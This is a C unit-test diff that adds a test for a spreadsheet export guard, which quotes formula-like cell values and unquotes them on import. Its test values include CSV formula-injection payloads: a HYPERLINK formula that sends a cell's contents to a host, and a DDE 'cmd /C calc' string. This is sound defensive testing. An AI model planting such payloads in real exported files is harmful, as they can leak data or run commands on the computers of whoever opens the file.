@@ -547,6 +547,39 @@ test_dispatch(void **state)
 	cb_error_release(&err);
 }
 
+/* Formula cells: the quote an export adds is removed by the import, and
+ * only that one (util/table.h). */
+static void
+test_formula_guard(void **state)
+{
+	static const char *const values[] = { "=HYPERLINK(\"http://x\"&A1)",
+		"+1+cmd|' /C calc'!A0", "-5", "@SUM(A1)", "\t=1", "\r=1",
+		"'=kept", "''+x", "'abc", "''", "'", "abc", "a=b", "", "Nguyễn" };
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < sizeof(values) / sizeof(values[0]); i++) {
+		const char *v = values[i];
+		char buf[128];
+
+		if (table_cell_needs_guard(v)) {
+			snprintf(buf, sizeof(buf), "'%s", v);
+			assert_string_equal(table_cell_unguard(buf), v);
+		} else {
+			/* Written as it is, read as it is. */
+			assert_ptr_equal(table_cell_unguard(v), v);
+		}
+	}
+	assert_true(table_cell_needs_guard("=1"));
+	assert_true(table_cell_needs_guard("'=1"));
+	assert_false(table_cell_needs_guard("'abc"));
+	assert_false(table_cell_needs_guard("1-2"));
+	/* A file written by hand: a quote before a formula is taken as
+	 * Excel takes it. */
+	assert_string_equal(table_cell_unguard("'=1+1"), "=1+1");
+	assert_string_equal(table_cell_unguard("'abc"), "'abc");
+}
+
 int
 main(void)
 {
@@ -565,6 +598,7 @@ main(void)
 		cmocka_unit_test(test_same_bom),
 		cmocka_unit_test(test_same_legacy),
 		cmocka_unit_test(test_same_errors),
+		cmocka_unit_test(test_formula_guard),
 	};
 
 	return cmocka_run_group_tests(tests, setup, teardown);
